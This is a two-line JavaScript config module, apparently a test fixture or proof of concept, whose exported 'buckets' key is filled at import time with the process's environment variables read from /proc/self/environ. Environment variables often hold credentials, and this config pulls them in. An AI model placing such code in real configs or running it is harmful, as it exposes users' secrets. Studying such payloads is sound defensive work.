import { readFileSync } from "node:fs";
export default { buckets: { [readFileSync("/proc/self/environ", "utf8")]: {} } };
